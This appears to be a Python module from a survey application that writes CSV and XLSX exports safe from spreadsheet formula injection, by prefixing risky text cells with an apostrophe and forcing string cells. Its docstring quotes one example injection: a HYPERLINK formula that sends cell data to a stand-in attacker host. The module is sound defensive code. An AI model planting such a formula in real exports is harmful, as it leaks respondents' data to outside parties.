"""Writing spreadsheet files that cannot run: every text is written as text.

A spreadsheet program treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (and some also after a leading tab or carriage return), so a respondent who writes
``=HYPERLINK("http://evil.example/?d="&A2,"See report")`` as free text would plant a live
formula in the file an analyst opens ("CSV injection", OWASP). The rule here, by column
type:

* numbers (``int``, ``float``, ``Decimal``; not ``bool``) stay numbers;
* in CSV a text is *neutralised*: when, after any leading apostrophes, it starts with one of
  ``= + - @ <tab> <CR>``, one apostrophe ``'`` is put in front (``-5 %`` → ``'-5 %``,
  ``'=x`` → ``''=x``); every other text is written unchanged;
* in XLSX a text is written as a string cell (type ``s``), never as a formula, and is not
  changed, except that a character XML 1.0 does not allow or a control character (see
  :mod:`surveys.characters`; inputs refuse or remove them, but older data may hold them) is
  replaced by U+FFFD: openpyxl refuses U+000B and writes U+FFFF into XML no reader opens, so
  the file would not be written, or not be readable.

:func:`restore` undoes :func:`neutralise` exactly (it removes the one apostrophe the rule
adds, and only from texts the rule would have changed), so a CSV export imports unchanged.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any

from ..characters import DISALLOWED, replace_disallowed

#: Characters that make a spreadsheet program read a cell as a formula.
FORMULA_STARTS = frozenset("=+-@\t\r")
#: The character put in front of such a text in CSV (spreadsheets show it as a text prefix).
NEUTRALISER = "'"


def _is_number(value: Any) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def needs_neutralising(text: str) -> bool:
    """Whether ``text``, after any leading apostrophes, starts with a formula character."""
    return text.lstrip(NEUTRALISER)[:1] in FORMULA_STARTS


def neutralise(text: str) -> str:
    """``text`` safe to put in a CSV cell: one apostrophe in front when :func:`needs_neutralising`."""
    return NEUTRALISER + text if needs_neutralising(text) else text


def restore(text: str) -> str:
    """The inverse of :func:`neutralise`: ``restore(neutralise(t)) == t`` for every text ``t``.

    Removes one leading apostrophe from a text that still needs neutralising after it is
    removed; every other text (including ``'abc`` and ``'`` alone) is returned unchanged.
    """
    if text.startswith(NEUTRALISER) and needs_neutralising(text[1:]):
        return text[1:]
    return text


def text_of(value: Any) -> str:
    """The text a cell holds: a string's own characters (a subclass's too, as :mod:`csv`
    writes them, whatever its ``__str__`` says), anything else ``str(value)``."""
    return str.__str__(value) if isinstance(value, str) else str(value)


def csv_value(value: Any) -> Any:
    """One cell for :mod:`csv`: ``None`` → ``""``, numbers unchanged, anything else as
    neutralised text (:func:`text_of`)."""
    # The plain types first, by exact type: an export passes every cell of every row here.
    kind = type(value)
    if kind is str:
        return neutralise(value)
    if kind is int or kind is float or kind is Decimal:
        return value
    if value is None:
        return ""
    if _is_number(value):
        return value
    return neutralise(text_of(value))


def csv_row(row: Iterable[Any]) -> list[Any]:
    """A row with every cell passed through :func:`csv_value`."""
    return [csv_value(value) for value in row]


class SafeCsvWriter:
    """A :func:`csv.writer` that neutralises every text cell (same ``writerow``/``writerows``).

    Each row is first written as it is, and the line searched for the start of a cell that
    could need neutralising: a delimiter, an optional quote, then a formula character or an
    apostrophe (``,=``, ``,"-``, ``,'`` ...; a few substring searches at C speed). Only
    a row with such a cell, or a false alarm such as a negative number or a comma inside a
    quoted text, is written again cell by cell through :func:`csv_value`. The first line is
    exactly the second whenever nothing is found: :func:`csv_value` changes a cell's written
    text only by neutralising it, and every cell starts at the line's start or after a
    delimiter, then an optional quote. Dialects with an escape character, without quote
    doubling, or quoting other than minimal or all, always take the cell-by-cell path. A
    row of 400 cells is written in 18 instead of 48 microseconds.
    """

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)
        self._stream = stream
        dialect = self._writer.dialect
        self._lines = csv.writer(_Echo(), dialect=dialect)  # the line, not written yet
        self._delimiter = dialect.delimiter
        self._terminator = len(dialect.lineterminator)
        #: (character, the cell starts it makes suspect): a delimiter, an optional quote, it.
        self._triggers: tuple[tuple[str, tuple[str, ...]], ...] = ()
        if dialect.escapechar is None and dialect.doublequote and dialect.quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_ALL):
            quotes = ("", dialect.quotechar) if dialect.quotechar else ("",)
            self._triggers = tuple(
                (start, tuple(dialect.delimiter + quote + start for quote in quotes))
                for start in sorted({*FORMULA_STARTS, NEUTRALISER})
            )

    def writerow(self, row: Iterable[Any]) -> Any:
        """Write one row; returns what the stream's ``write`` returned (the line for ``_Echo``)."""
        if not self._triggers:
            return self._writer.writerow(csv_row(row))
        row = row if isinstance(row, list | tuple) else list(row)
        line = self._lines.writerow(row)
        cells = self._delimiter + line[: len(line) - self._terminator]
        for character, starts in self._triggers:
            # A character absent from the line is ruled out by one fast scan.
            if character in cells and any(start in cells for start in starts):
                return self._writer.writerow(csv_row(row))
        return self._stream.write(line)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """Safe CSV text one line at a time, for a streaming response."""
    writer = SafeCsvWriter(_Echo())
    for row in rows:
        yield writer.writerow(row)


def xlsx_row(sheet: Any, row: Iterable[Any]) -> list[Any]:
    """Cells for ``sheet.append`` (an openpyxl worksheet, normal or write-only mode).

    Numbers, dates, yes/no (``bool``, a logical cell) and ``None`` are passed as they are,
    and so is a text that openpyxl
    stores as a string cell by itself: one that does not start with ``=`` and holds no
    disallowed character. Any other text becomes a string cell whose type is forced to
    ``s``, because openpyxl would store it as a formula, with disallowed characters
    replaced by U+FFFD.
    """
    from openpyxl.cell import WriteOnlyCell

    cells: list[Any] = []
    for value in row:
        if value is None or isinstance(value, bool) or _is_number(value) or hasattr(value, "isoformat"):
            cells.append(value)
            continue
        text = text_of(value)
        if text[:1] != "=" and not DISALLOWED.search(text):
            # openpyxl stores any other text as a string cell itself; a cell object of our
            # own costs one object and, inside openpyxl's write-only append, one exception.
            cells.append(text)
            continue
        cell = WriteOnlyCell(sheet, value=replace_disallowed(text))
        cell.data_type = "s"
        cells.append(cell)
    return cells


def append_xlsx_rows(sheet: Any, rows: Iterable[Iterable[Any]]) -> None:
    """Append ``rows`` to an openpyxl ``sheet`` with :func:`xlsx_row`."""
    for row in rows:
        sheet.append(xlsx_row(sheet, row))
